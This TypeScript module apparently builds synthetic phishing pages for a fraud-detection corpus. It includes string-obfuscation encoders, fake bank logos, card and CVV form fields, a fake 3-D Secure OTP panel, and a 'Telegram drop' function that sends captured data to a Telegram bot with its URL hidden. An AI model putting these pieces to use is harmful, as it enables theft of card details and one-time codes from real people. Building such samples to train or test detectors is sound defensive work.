import type { Route } from '../../corpus/corpus.js';

/**
 * Shared pieces for the `xb-` pages (Turkish / Azerbaijani / German payments fraud desk): page shell,
 * encoders the kits use to hide strings, stand-in logos as inline SVG, card-form fragments and a few
 * small route builders. Parts hold no pages.
 */

export const b64 = (s: string | Buffer): string => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
/** Char codes, optionally shifted (kits undo the shift with String.fromCharCode(c - n)). */
export const charCodes = (s: string, shift = 0): string => Array.from(s, (c) => (c.codePointAt(0) ?? 0) + shift).join(',');
export const reverse = (s: string): string => Array.from(s).reverse().join('');
/** XOR with a repeating key, as base64: what the kits decrypt at load with a few-line loop. */
export function xorB64(s: string, key: string): string {
  const d = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(d.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
}
/** Split a string into pieces of n characters (for "a"+"b"+"c" style literals). */
export const pieces = (s: string, n: number): string[] => s.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g')) ?? [];
export const joinedLiteral = (s: string, n: number): string => pieces(s, n).map((p) => JSON.stringify(p)).join('+');
export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export function doc(o: { title: string; lang?: string; body: string; css?: string; head?: string; bodyAttrs?: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'tr'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}${o.css ? `<style>\n${o.css}\n</style>\n` : ''}</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>
`;
}

const MARKS = {
  wheat: (c: string) => `<path d="M20 3c-5 6-5 13 0 19 5-6 5-13 0-19z" fill="${c}"/><path d="M8 11c0 8 5 13 11 15-1-8-5-13-11-15zM32 11c0 8-5 13-11 15 1-8 5-13 11-15z" fill="${c}" opacity=".85"/><rect x="19" y="24" width="2.4" height="13" fill="${c}"/>`,
  clover: (c: string) => `<circle cx="14" cy="14" r="7" fill="${c}"/><circle cx="26" cy="14" r="7" fill="${c}" opacity=".8"/><circle cx="14" cy="26" r="7" fill="${c}" opacity=".8"/><circle cx="26" cy="26" r="7" fill="${c}"/>`,
  ring: (c: string) => `<circle cx="20" cy="20" r="14" fill="none" stroke="${c}" stroke-width="6"/><circle cx="20" cy="20" r="4" fill="${c}"/>`,
  bars: (c: string) => `<rect x="6" y="12" width="6" height="22" rx="1" fill="${c}"/><rect x="17" y="6" width="6" height="28" rx="1" fill="${c}"/><rect x="28" y="16" width="6" height="18" rx="1" fill="${c}"/>`,
  diamond: (c: string) => `<path d="M20 3l16 17-16 17L4 20z" fill="${c}"/><path d="M20 11l8 9-8 9-8-9z" fill="#fff" opacity=".55"/>`,
  crescent: (c: string) => `<circle cx="20" cy="20" r="17" fill="${c}"/><circle cx="17" cy="20" r="9" fill="#fff"/><circle cx="20" cy="20" r="7.5" fill="${c}"/><path d="M28 16l1.2 3.4h3.6l-2.9 2.1 1.1 3.5-3-2.2-3 2.2 1.1-3.5-2.9-2.1h3.6z" fill="#fff"/>`,
  wave: (c: string) => `<path d="M3 24c6-8 11-8 17 0s11 8 17 0v10H3z" fill="${c}"/><path d="M3 16c6-8 11-8 17 0s11 8 17 0" fill="none" stroke="${c}" stroke-width="3"/>`,
  box: (c: string) => `<path d="M20 4l15 7v18l-15 7-15-7V11z" fill="${c}"/><path d="M5 11l15 7 15-7M20 18v18" stroke="#fff" stroke-width="1.6" fill="none"/>`,
  shield: (c: string) => `<path d="M20 3l14 5v10c0 9-6 16-14 19C12 34 6 27 6 18V8z" fill="${c}"/><path d="M14 19l4 4 8-9" stroke="#fff" stroke-width="3" fill="none"/>`,
  letterP: (c: string) => `<rect x="2" y="2" width="36" height="36" rx="9" fill="${c}"/><path d="M14 30V10h8a6 6 0 010 12h-8" stroke="#fff" stroke-width="4" fill="none"/>`,
  star: (c: string) => `<path d="M20 3l5 11 12 1-9 8 3 12-11-6-11 6 3-12-9-8 12-1z" fill="${c}"/>`,
  leaf: (c: string) => `<path d="M6 34C6 14 18 5 36 5c0 19-10 30-30 29z" fill="${c}"/><path d="M8 32L30 11" stroke="#fff" stroke-width="2"/>`,
} as const;
export type Mark = keyof typeof MARKS;

/** A stand-in logo: a coloured mark and the name as SVG text. */
export function logo(o: { name: string; color: string; mark: Mark; sub?: string; height?: number; textColor?: string; font?: string }): string {
  const h = o.height ?? 40;
  const w = Math.round(48 + o.name.length * 10.5 + 8);
  const sub = o.sub ? `<text x="48" y="36" font-size="9" fill="${o.textColor ?? o.color}" opacity=".75" font-family="${o.font ?? 'Arial, sans-serif'}">${o.sub}</text>` : '';
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${Math.round((w * h) / 40)}" height="${h}" viewBox="0 0 ${w} 40" role="img" aria-label="${esc(o.name)}">${MARKS[o.mark](o.color)}<text x="48" y="${o.sub ? 23 : 27}" font-size="18" font-weight="700" fill="${o.textColor ?? o.color}" font-family="${o.font ?? 'Arial, sans-serif'}">${o.name}</text>${sub}</svg>`;
}

export type CardLang = 'tr' | 'de' | 'az';
const CARD_L: Record<CardLang, { holder: string; number: string; exp: string; cvv: string; mm: string; yy: string }> = {
  tr: { holder: 'Kart Üzerindeki Ad Soyad', number: 'Kart Numarası', exp: 'Son Kullanma Tarihi', cvv: 'CVV / Güvenlik Kodu', mm: 'Ay', yy: 'Yıl' },
  de: { holder: 'Name des Karteninhabers', number: 'Kartennummer', exp: 'Gültig bis', cvv: 'Prüfnummer (CVC)', mm: 'MM', yy: 'JJ' },
  az: { holder: 'Kart sahibinin adı', number: 'Kartın nömrəsi', exp: 'Bitmə tarixi', cvv: 'CVV kod', mm: 'Ay', yy: 'İl' },
};

/**
 * Card inputs as the kits lay them out: `names` are the field names the drop expects,
 * `split` gives month/year selects instead of one MM/YY box.
 */
export function cardFields(o: { lang: CardLang; names?: { holder?: string; number: string; exp: string; cvv: string; yy?: string }; split?: boolean; holder?: boolean; cls?: string; year?: number }): string {
  const L = CARD_L[o.lang];
  const n = o.names ?? { holder: 'adsoyad', number: 'kartno', exp: 'skt', cvv: 'cvv', yy: 'yil' };
  const cls = o.cls ?? 'fld';
  const y0 = o.year ?? 2025;
  const holder = o.holder === false ? '' : `<div class="${cls}"><label>${L.holder}</label><input name="${n.holder ?? 'holder'}" autocomplete="cc-name" required></div>\n`;
  const exp = o.split
    ? `<div class="${cls} half"><label>${L.exp}</label><select name="${n.exp}" required><option value="">${L.mm}</option>${Array.from({ length: 12 }, (_, i) => `<option>${String(i + 1).padStart(2, '0')}</option>`).join('')}</select><select name="${n.yy ?? 'yy'}" required><option value="">${L.yy}</option>${Array.from({ length: 10 }, (_, i) => `<option>${y0 + i}</option>`).join('')}</select></div>`
    : `<div class="${cls} half"><label>${L.exp}</label><input name="${n.exp}" placeholder="${L.mm}/${L.yy}" maxlength="5" inputmode="numeric" autocomplete="cc-exp" required></div>`;
  return `${holder}<div class="${cls}"><label>${L.number}</label><input name="${n.number}" inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000" autocomplete="cc-number" required></div>
${exp}
<div class="${cls} half"><label>${L.cvv}</label><input name="${n.cvv}" inputmode="numeric" maxlength="4" autocomplete="cc-csc" required></div>`;
}

/** A Luhn check plus the 4-4-4-4 mask, as a self-contained script (function names vary per page). */
export function cardMaskJs(o: { field: string; fn?: string; exp?: string }): string {
  const fn = o.fn ?? 'luhn';
  const exp = o.exp
    ? `\nvar ex=document.querySelector('[name="${o.exp}"]');if(ex)ex.addEventListener('input',function(){var v=ex.value.replace(/\\D/g,'').slice(0,4);ex.value=v.length>2?v.slice(0,2)+'/'+v.slice(2):v;});`
    : '';
  return `function ${fn}(n){n=n.replace(/\\D/g,'');var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9;}s+=d;a=!a;}return n.length>=15&&s%10===0;}
var cn=document.querySelector('[name="${o.field}"]');if(cn)cn.addEventListener('input',function(){cn.value=cn.value.replace(/\\D/g,'').slice(0,16).replace(/(.{4})(?=.)/g,'$1 ');});${exp}`;
}

/** The Telegram drop: a sendMessage call with the bot token hidden in the way `style` says. */
export function telegramDrop(o: { token: string; chat: string; fn: string; style: 'plain' | 'split' | 'b64' | 'rev' }): string {
  const url = `https://api.telegram.org/bot${o.token}/sendMessage`;
  const expr =
    o.style === 'plain'
      ? JSON.stringify(url)
      : o.style === 'split'
        ? joinedLiteral(url, 7)
        : o.style === 'b64'
          ? `atob(${JSON.stringify(b64(url))})`
          : `${JSON.stringify(reverse(url))}.split('').reverse().join('')`;
  return `function ${o.fn}(txt){var u=${expr};var fd=new FormData();fd.append('chat_id','${o.chat}');fd.append('text',txt);fd.append('parse_mode','HTML');return fetch(u,{method:'POST',body:fd,mode:'no-cors'}).catch(function(){});}`;
}

/** A KVKK cookie strip as Turkish (and Azerbaijani / German) sites show. */
export function cookieBar(o: { lang: CardLang; href: string; accent: string }): string {
  const t = {
    tr: ['Sitemizde deneyiminizi iyileştirmek için çerezler kullanıyoruz. Ayrıntılar için', 'Çerez Politikası', 'Kabul Et'],
    de: ['Wir verwenden Cookies, um Ihnen die bestmögliche Nutzung zu ermöglichen. Mehr in der', 'Cookie-Richtlinie', 'Akzeptieren'],
    az: ['Saytımızda təcrübənizi yaxşılaşdırmaq üçün kukilərdən istifadə edirik. Ətraflı:', 'Kuki siyasəti', 'Qəbul et'],
  }[o.lang];
  return `<div id="cookie-consent" style="position:fixed;left:0;right:0;bottom:0;background:#1f2933;color:#eef;padding:12px 18px;font-size:13px;display:flex;gap:14px;align-items:center;justify-content:center;z-index:50">${t[0]} <a href="${o.href}" style="color:#9cf">${t[1]}</a><button type="button" onclick="this.parentNode.remove();try{localStorage.setItem('cc','1')}catch(e){}" style="background:${o.accent};color:#fff;border:0;border-radius:4px;padding:6px 14px;cursor:pointer">${t[2]}</button></div>`;
}

export const textRoute = (body: string, type = 'text/plain; charset=utf-8', extra: Record<string, string> = {}): Route => ({ status: 200, headers: { 'content-type': type, ...extra }, body });

/** A short 3-D Secure style SMS-code panel (operator kits show it while the code is relayed). */
export function smsPanel(o: { lang: CardLang; id: string; phone: string; seconds: number; bank: string; amount?: string; color: string }): string {
  const t = {
    tr: { h: '3D Secure Doğrulama', p: `${o.phone} numaralı telefonunuza gönderilen tek kullanımlık şifreyi giriniz.`, b: 'Onayla', r: 'Kalan süre', a: 'İşlem tutarı', m: 'Üye işyeri' },
    de: { h: 'Sicherheitsüberprüfung', p: `Geben Sie den Code ein, den wir per SMS an ${o.phone} gesendet haben.`, b: 'Bestätigen', r: 'Verbleibende Zeit', a: 'Betrag', m: 'Händler' },
    az: { h: '3D Secure təsdiqi', p: `${o.phone} nömrəsinə göndərilən birdəfəlik kodu daxil edin.`, b: 'Təsdiqlə', r: 'Qalan vaxt', a: 'Məbləğ', m: 'Satıcı' },
  }[o.lang];
  return `<div id="${o.id}" class="otp" style="display:none;max-width:360px;margin:30px auto;border:1px solid #ddd;border-radius:6px;padding:20px;font-family:Arial,sans-serif;background:#fff">
<div style="display:flex;justify-content:space-between;align-items:center;border-bottom:2px solid ${o.color};padding-bottom:8px"><b>${o.bank}</b><span style="font-size:11px;color:#777">Verified by VISA · Mastercard ID Check</span></div>
<h3 style="font-size:16px;margin:14px 0 6px">${t.h}</h3>
${o.amount ? `<table style="font-size:13px;width:100%"><tr><td>${t.m}</td><td style="text-align:right">ONLINE ODEME HIZMETLERI</td></tr><tr><td>${t.a}</td><td style="text-align:right"><b>${o.amount}</b></td></tr></table>` : ''}
<p style="font-size:13px;color:#444">${t.p}</p>
<input id="${o.id}-code" maxlength="6" inputmode="numeric" style="width:100%;font-size:22px;letter-spacing:8px;text-align:center;padding:8px;box-sizing:border-box">
<p style="font-size:12px;color:#888">${t.r}: <span id="${o.id}-t">${o.seconds}</span> sn</p>
<button type="button" id="${o.id}-ok" style="width:100%;background:${o.color};color:#fff;border:0;padding:11px;border-radius:4px;font-size:15px">${t.b}</button>
</div>`;
}
